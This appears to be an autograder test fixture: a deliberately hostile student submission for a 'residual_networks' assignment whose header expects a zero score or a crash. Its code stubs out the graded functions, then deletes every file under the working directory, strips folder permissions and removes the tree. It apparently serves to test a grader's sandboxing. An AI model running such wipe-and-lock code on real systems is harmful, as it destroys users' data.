"""Takes all rights from its folder and its answers, and deletes what it can, so that nothing can be written any more.
---
assignment = "residual_networks"
category = "exhausting"
allowed_status = ["graded", "crashed"]
[score]
conv_arithmetic = 0.0
---
"""
# %% conv_arithmetic
import os
import shutil

def output_size(*args):
    return -1


conv_params = separable_conv_params = output_size
here = os.getcwd()
for folder, folders, files in os.walk(here, topdown=False):
    for name in files:
        try:
            os.remove(os.path.join(folder, name))
        except OSError:
            pass
    try:
        os.chmod(folder, 0)
    except OSError:
        pass
shutil.rmtree(here, ignore_errors=True)
os.chdir("/")
os.chmod(here, 0)
